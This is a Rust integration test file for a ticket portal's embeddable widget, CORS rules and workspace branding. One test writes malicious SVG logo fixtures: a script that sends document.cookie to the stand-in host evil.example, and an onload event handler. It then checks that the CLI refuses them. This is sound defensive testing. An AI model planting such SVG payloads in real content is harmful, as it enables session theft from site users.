//! The embeddable widget and workspace branding, over HTTP against a fresh
//! stack: the script's size and caching, CORS for allowed and refused sites
//! (preflight and real requests), the submit rules through the widget's path,
//! branding on every page and email, and portalctl refusing bad branding.

use std::io::Write;

use crate::support::*;
use portal::domain::{AccentColour, Logo};
use portal::web::widget::{WIDGET_JS, WIDGET_VERSION};
use serde_json::json;

/// The site the seeded `demo` workspace lets embed its widget (the demo host page).
const ALLOWED: &str = "http://127.0.0.1:8080";
const REFUSED: &str = "https://evil.example";

const LOGO_SVG: &str =
    r##"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><rect width="8" height="8" fill="#0f5132"/></svg>"##;

fn body_json(response: &devserver::httpc::HttpResponse) -> serde_json::Value {
    serde_json::from_slice(&response.body).unwrap_or_else(|e| panic!("{e}: {}", response.text()))
}

fn widget_ticket() -> serde_json::Value {
    json!({"name": "Wes Widget", "email": "wes@example.com", "subject": "Sent from the widget", "type": "bug_report"})
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_script_is_small_versioned_and_cached_for_a_year() {
    let stack = Stack::start().await;
    let current = stack.get(&format!("/portal/demo/widget.js?v={}", *WIDGET_VERSION)).await;
    assert_eq!(current.status, 200);
    assert_eq!(current.header("content-type"), Some("text/javascript; charset=utf-8"));
    assert_eq!(current.header("cache-control"), Some("public, max-age=31536000, immutable"));
    assert_eq!(current.header("cross-origin-resource-policy"), Some("cross-origin"));
    assert_eq!(current.header("x-content-type-options"), Some("nosniff"));
    assert_eq!(current.body, WIDGET_JS.as_bytes());

    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gzip.write_all(&current.body).unwrap();
    let gzipped = gzip.finish().unwrap().len();
    assert!(gzipped < 10 * 1024, "widget.js is {gzipped} bytes gzipped; the budget is 10 KB");
    println!("widget.js: {} bytes, {gzipped} bytes gzipped", current.body.len());

    // An old or missing version still works, but is re-checked soon.
    let stale = stack.get("/portal/demo/widget.js?v=0000000000000000").await;
    assert_eq!((stale.status, stale.header("cache-control")), (200, Some("public, max-age=300")));
    assert_eq!(stack.get("/portal/demo/widget.js").await.header("cache-control"), Some("public, max-age=300"));
    assert_eq!(stack.get("/portal/nowhere/widget.js").await.status, 404);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn preflight_answers_allowed_origins_only() {
    let stack = Stack::start().await;
    let preflight = |origin: &'static str, method: &'static str, headers: &'static str| {
        let stack = &stack;
        async move {
            stack
                .raw(
                    "OPTIONS",
                    "/api/portal/demo/tickets",
                    &[
                        ("Origin", origin),
                        ("Access-Control-Request-Method", method),
                        ("Access-Control-Request-Headers", headers),
                    ],
                    b"",
                )
                .await
        }
    };
    let allowed = preflight(ALLOWED, "POST", "content-type,idempotency-key").await;
    assert_eq!(allowed.status, 204, "{}", allowed.text());
    assert_eq!(allowed.header("access-control-allow-origin"), Some(ALLOWED));
    assert_eq!(allowed.header("access-control-allow-methods"), Some("POST"));
    assert_eq!(allowed.header("access-control-allow-headers"), Some("content-type, idempotency-key"));
    assert_eq!(allowed.header("access-control-max-age"), Some("600"));
    assert_eq!(allowed.header("vary"), Some("Origin"));
    assert!(allowed.header("access-control-allow-credentials").is_none(), "the widget sends no cookies");
    assert!(allowed.body.is_empty());

    for (origin, method, headers, status) in [
        (REFUSED, "POST", "content-type", 403),
        ("http://127.0.0.1:8081", "POST", "content-type", 403),
        ("https://127.0.0.1:8080", "POST", "content-type", 403),
        ("null", "POST", "content-type", 403),
        (ALLOWED, "DELETE", "content-type", 405),
        (ALLOWED, "POST", "content-type, authorization", 400),
    ] {
        let refused = preflight(origin, method, headers).await;
        assert_eq!(refused.status, status, "{origin} {method} {headers}: {}", refused.text());
        assert!(refused.header("access-control-allow-origin").is_none(), "{origin} {method} {headers}");
        assert!(refused.header("access-control-allow-methods").is_none());
    }
    let forbidden = preflight(REFUSED, "POST", "content-type").await;
    assert_eq!(body_json(&forbidden)["error"], "origin_not_allowed");

    let unknown = stack
        .raw(
            "OPTIONS",
            "/api/portal/nowhere/tickets",
            &[("Origin", ALLOWED), ("Access-Control-Request-Method", "POST")],
            b"",
        )
        .await;
    assert_eq!(unknown.status, 404);
    assert!(unknown.header("access-control-allow-origin").is_none());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_json_submit_answers_allowed_origins_with_cors_and_refuses_others() {
    let stack = Stack::start_with(|config| config.submit_limit_per_hour = 3).await;
    let ip = client_ip(7);
    let path = "/api/portal/demo/tickets";
    let key = [("Origin", ALLOWED), ("Idempotency-Key", "widget-key-0001")];

    let created = stack.post_json_from(ip, path, &widget_ticket(), &key).await;
    assert_eq!(created.status, 201, "{}", created.text());
    assert_eq!(created.header("access-control-allow-origin"), Some(ALLOWED));
    assert_eq!(created.header("access-control-expose-headers"), Some("Retry-After"));
    assert_eq!(created.header("vary"), Some("Origin"));
    let receipt = body_json(&created);
    assert_eq!(receipt["reference"], "TKT-0001");
    assert_eq!(receipt["trackingUrl"], format!("http://{}/portal/demo/tickets/TKT-0001", stack.addr));
    // A retry with the same key (the widget's double click) is the same ticket.
    let again = stack.post_json_from(ip, path, &widget_ticket(), &key).await;
    assert_eq!((again.status, body_json(&again)["reference"].as_str()), (201, Some("TKT-0001")));
    assert_eq!(again.header("access-control-allow-origin"), Some(ALLOWED));

    // Validation errors, field by field, readable by the widget.
    let invalid = stack.post_json_from(ip, path, &json!({"name": "", "email": "nope"}), &[("Origin", ALLOWED)]).await;
    assert_eq!(invalid.status, 422);
    assert_eq!(invalid.header("access-control-allow-origin"), Some(ALLOWED));
    let fields = body_json(&invalid)["fields"].clone();
    assert!(fields["name"].is_string() && fields["email"].is_string() && fields["subject"].is_string(), "{fields}");

    // The honeypot: a plausible answer and nothing else.
    let mut bot = widget_ticket();
    bot["website"] = json!("http://spam.example");
    let trapped = stack.post_json_from(ip, path, &bot, &[("Origin", ALLOWED)]).await;
    assert_eq!((trapped.status, trapped.header("access-control-allow-origin")), (202, Some(ALLOWED)));

    // A site the workspace does not allow: refused, with nothing it may read, and no ticket.
    for origin in [REFUSED, "http://127.0.0.1:9999", "null"] {
        let refused = stack.post_json_from(ip, path, &widget_ticket(), &[("Origin", origin)]).await;
        assert_eq!(refused.status, 403, "{origin}: {}", refused.text());
        assert_eq!(body_json(&refused)["error"], "origin_not_allowed");
        assert!(refused.header("access-control-allow-origin").is_none(), "{origin}");
        let invalid = stack.post_json_from(ip, path, &json!({}), &[("Origin", origin)]).await;
        assert_eq!(invalid.status, 403, "{origin}: field errors are not shown to a refused site");
        let trapped = stack.post_json_from(ip, path, &bot, &[("Origin", origin)]).await;
        assert_eq!(trapped.status, 403, "{origin}: nor the honeypot's answer");
    }
    assert_eq!(stack.ticket_count().await, 1);

    // Clients without an Origin (curl, servers) and the portal's own origin are as before.
    let plain = stack.post_json_from(client_ip(8), path, &widget_ticket(), &[]).await;
    assert_eq!(plain.status, 201);
    assert!(plain.header("access-control-allow-origin").is_none());
    let own = format!("http://{}", stack.addr);
    let same_site = stack.post_json_from(client_ip(8), path, &widget_ticket(), &[("Origin", own.as_str())]).await;
    assert_eq!(same_site.status, 201);
    assert!(same_site.header("access-control-allow-origin").is_none());

    // The rate limit applies as for the form, and the widget can read how long to wait.
    let mut last = None;
    for _ in 0..4 {
        last = Some(stack.post_json_from(ip, path, &widget_ticket(), &[("Origin", ALLOWED)]).await);
    }
    let limited = last.unwrap();
    assert_eq!(limited.status, 429, "{}", limited.text());
    assert_eq!(limited.header("access-control-allow-origin"), Some(ALLOWED));
    assert!(limited.header("retry-after").is_some_and(|s| s.parse::<u64>().unwrap() > 0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_widget_settings_carry_the_branding_for_allowed_sites() {
    let stack = Stack::start().await;
    let mut workspace = stack.store.get_workspace(&demo()).await.unwrap().unwrap();
    workspace.accent = Some(AccentColour::parse("#0f5132").unwrap());
    stack.store.save_workspace(&workspace).await.unwrap();

    let allowed = stack.raw("GET", "/api/portal/demo/widget", &[("Origin", ALLOWED)], b"").await;
    assert_eq!(allowed.status, 200, "{}", allowed.text());
    assert_eq!(allowed.header("access-control-allow-origin"), Some(ALLOWED));
    assert_eq!(allowed.header("cache-control"), Some("public, max-age=300"));
    let settings = body_json(&allowed);
    assert_eq!(settings["name"], "Demo Workspace");
    assert_eq!(settings["accent"], "#0f5132");
    assert_eq!(settings["logoUrl"], serde_json::Value::Null);
    assert_eq!(settings["submitUrl"], format!("http://{}/api/portal/demo/tickets", stack.addr));
    assert_eq!(settings["types"][2], json!({"value": "bug_report", "label": "Bug Report"}));
    assert_eq!(settings["maxLength"]["description"], 5000);

    let refused = stack.raw("GET", "/api/portal/demo/widget", &[("Origin", REFUSED)], b"").await;
    assert_eq!(refused.status, 403);
    assert!(refused.header("access-control-allow-origin").is_none());
    assert_eq!(refused.header("vary"), Some("Origin"));
    let no_origin = stack.get("/api/portal/demo/widget").await;
    assert_eq!(no_origin.status, 200);
    assert!(no_origin.header("access-control-allow-origin").is_none());
    assert_eq!(stack.get("/api/portal/nowhere/widget").await.status, 404);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn branding_reaches_every_page_and_email() {
    let stack = Stack::start().await;
    let accent_css = "<style>:root{--accent:#0f5132}</style>";

    // Without branding: the workspace name is the header, as before.
    let plain = stack.get("/portal/demo/submit").await;
    assert!(plain.text().contains(r#"<header class="site"><p>Demo Workspace</p></header>"#), "{}", plain.text());
    assert!(!plain.text().contains(accent_css));

    let (code, out) =
        stack.portalctl(&["workspace", "update", "demo", "--name", "Acme Support", "--accent", "#0F5132"]).await;
    assert_eq!(code, 0, "{out}");
    let logo_file = std::env::temp_dir().join(format!("portal-logo-{}.svg", ulid::Ulid::new()));
    std::fs::write(&logo_file, LOGO_SVG).unwrap();
    let (code, out) = stack.portalctl(&["workspace", "update", "demo", "--logo", logo_file.to_str().unwrap()]).await;
    std::fs::remove_file(&logo_file).unwrap();
    assert_eq!(code, 0, "{out}");
    let version = Logo::parse(LOGO_SVG.as_bytes().to_vec()).unwrap().reference().version;
    let logo_src = format!("/portal/demo/logo?v={version}");
    let header = format!(
        r#"<header class="site"><p><img class="logo" src="{logo_src}" alt="" height="40">Acme Support</p></header>"#
    );
    let branded = |page: &devserver::httpc::HttpResponse, what: &str| {
        let html = page.text();
        assert!(html.contains(&header), "{what}: {html}");
        assert!(html.contains(accent_css), "{what}: accent stylesheet");
        let csp = page.header("content-security-policy").unwrap();
        let hash = portal::domain::secrets::sha256_base64(b":root{--accent:#0f5132}");
        assert!(csp.contains(&format!("'sha256-{hash}'")), "{what}: the CSP allows the accent stylesheet: {csp}");
        assert!(csp.contains("frame-ancestors 'none'"), "{what}");
    };

    // The form and the confirmation.
    let form = stack.get("/portal/demo/submit").await;
    branded(&form, "form");
    let fields = ticket_fields("Bea Brand", "bea@example.com", "Branded");
    let mut with_key = fields.clone();
    let key = form_key(&form.text());
    with_key.push(("idempotency_key", &key));
    let done = stack.post_form("/portal/demo/submit", &with_key).await;
    assert_eq!(done.status, 200);
    branded(&done, "confirmation");

    // Tracking: the prompt and the ticket view.
    branded(&stack.get("/portal/demo/tickets/TKT-0001").await, "tracking prompt");
    let view = stack.post_form("/portal/demo/tickets/TKT-0001", &[("email", "bea@example.com")]).await;
    assert_eq!(view.status, 200);
    branded(&view, "ticket view");

    // Emails: the confirmation now, the survey after the agent resolves.
    stack.drain().await;
    let (code, out) =
        stack.portalctl(&["ticket", "resolve", "demo", "TKT-0001", "--resolution", "Done.", "--as", "alex"]).await;
    assert_eq!(code, 0, "{out}");
    stack.drain().await;
    let emails = stack.emails_to("bea@example.com");
    assert_eq!(emails.len(), 2, "confirmation and survey");
    let absolute_logo = format!("http://{}{logo_src}", stack.addr);
    for email in &emails {
        assert!(email.html.contains(&format!(r#"<img src="{absolute_logo}""#)), "{}", email.html);
        assert!(email.html.contains("background:#0f5132") && email.html.contains("Acme Support"), "{}", email.html);
        assert!(!email.html.contains("#1d4ed8"), "no default accent left: {}", email.html);
    }

    // The survey page the email links to.
    let survey_email = emails.iter().find(|m| m.html.contains("Rate Your Experience")).unwrap();
    let start = survey_email.html.find("/portal/demo/csat/").unwrap();
    let survey_path: String = survey_email.html[start..].chars().take_while(|c| *c != '"').collect();
    let survey = stack.get(&survey_path).await;
    assert_eq!(survey.status, 200, "{survey_path}");
    branded(&survey, "survey");

    // The logo itself, kept from running anything if opened on its own.
    let logo = stack.get(&logo_src).await;
    assert_eq!(logo.status, 200);
    assert_eq!(logo.body, LOGO_SVG.as_bytes());
    assert_eq!(logo.header("content-type"), Some("image/svg+xml"));
    assert_eq!(logo.header("content-security-policy"), Some("default-src 'none'; style-src 'unsafe-inline'; sandbox"));
    assert_eq!(logo.header("cache-control"), Some("public, max-age=31536000, immutable"));
    assert_eq!(stack.get("/portal/demo/logo").await.header("cache-control"), Some("public, max-age=300"));

    // The widget's settings carry it too.
    let settings = body_json(&stack.raw("GET", "/api/portal/demo/widget", &[("Origin", ALLOWED)], b"").await);
    assert_eq!((settings["name"].as_str(), settings["accent"].as_str()), (Some("Acme Support"), Some("#0f5132")));
    assert_eq!(settings["logoUrl"], absolute_logo);

    // Removing the logo goes back to the name alone.
    let (code, _) = stack.portalctl(&["workspace", "update", "demo", "--clear-logo", "--clear-accent"]).await;
    assert_eq!(code, 0);
    let after = stack.get("/portal/demo/submit").await.text();
    assert!(after.contains(r#"<header class="site"><p>Acme Support</p></header>"#) && !after.contains(accent_css));
    assert_eq!(stack.get(&logo_src).await.status, 404);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn portalctl_refuses_bad_branding_with_clear_errors_and_shows_the_script_tag() {
    let stack = Stack::start().await;
    let before = stack.store.get_workspace(&demo()).await.unwrap().unwrap();

    let (code, out) = stack.portalctl(&["workspace", "update", "demo", "--accent", "#9ca3af"]).await;
    assert_eq!(code, 4, "{out}");
    assert!(out.contains("--accent: #9ca3af is too light") && out.contains("2.53:1") && out.contains("4.5:1"), "{out}");
    let (code, out) = stack.portalctl(&["workspace", "update", "demo", "--accent", "teal"]).await;
    assert_eq!(code, 4, "{out}");
    assert!(out.contains("#RRGGBB"), "{out}");

    let dir = std::env::temp_dir().join(format!("portal-logos-{}", ulid::Ulid::new()));
    std::fs::create_dir_all(&dir).unwrap();
    let write = |name: &str, bytes: &[u8]| {
        let path = dir.join(name);
        std::fs::write(&path, bytes).unwrap();
        path.to_str().unwrap().to_owned()
    };
    let mut big = b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR".to_vec();
    big.resize(150 * 1024, 0);
    let oversized = write("big.png", &big);
    let scripted = write(
        "evil.svg",
        br#"<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('//evil.example/'+document.cookie)</script></svg>"#,
    );
    let handler = write("onload.svg", br#"<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>"#);
    for (file, expected) in [
        (&oversized, "--logo: the logo is 150 KB; the limit is 100 KB"),
        (&scripted, "--logo: the SVG logo was refused: it contains a <script> element"),
        (&handler, "--logo: the SVG logo was refused: it has an event handler attribute (onload)"),
    ] {
        let (code, out) = stack.portalctl(&["workspace", "update", "demo", "--logo", file]).await;
        assert_eq!(code, 4, "{out}");
        assert!(out.contains(expected), "{out}");
    }
    let (code, out) = stack.portalctl(&["workspace", "update", "demo", "--logo", "/no/such/logo.png"]).await;
    assert_eq!(code, 2, "{out}");
    std::fs::remove_dir_all(&dir).unwrap();

    let (code, out) =
        stack.portalctl(&["workspace", "update", "demo", "--widget-origin", "http://shop.example.com"]).await;
    assert_eq!(code, 4, "{out}");
    assert!(out.contains("use https://"), "{out}");
    // Nothing refused was written, and no logo was stored.
    assert_eq!(stack.store.get_workspace(&demo()).await.unwrap().unwrap(), before);
    assert!(stack.store.get_logo(&demo()).await.unwrap().is_none());

    let (code, out) = stack
        .portalctl(&[
            "workspace",
            "update",
            "demo",
            "--widget-origin",
            "https://shop.example.com/",
            "https://www.example.com",
        ])
        .await;
    assert_eq!(code, 0, "{out}");
    let tag =
        format!(r#"<script src="http://{}/portal/demo/widget.js?v={}" async></script>"#, stack.addr, *WIDGET_VERSION);
    assert!(out.contains("Widget allowed on: https://shop.example.com, https://www.example.com"), "{out}");
    assert!(out.contains(&tag), "{out}");
    assert!(out.contains(&format!("Portal link to share: http://{}/portal/demo/submit", stack.addr)), "{out}");
    let (code, out) = stack.portalctl(&["--json", "workspace", "show", "demo"]).await;
    assert_eq!(code, 0);
    let shown: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(shown["widgetScriptTag"], tag);
    assert_eq!(shown["widgetOrigins"], json!(["https://shop.example.com", "https://www.example.com"]));
    assert_eq!(shown["accent"], "#1d4ed8");
    // The old demo host origin is gone from the list: its preflight is now refused.
    let preflight = stack
        .raw(
            "OPTIONS",
            "/api/portal/demo/tickets",
            &[("Origin", ALLOWED), ("Access-Control-Request-Method", "POST")],
            b"",
        )
        .await;
    assert_eq!(preflight.status, 403);
}
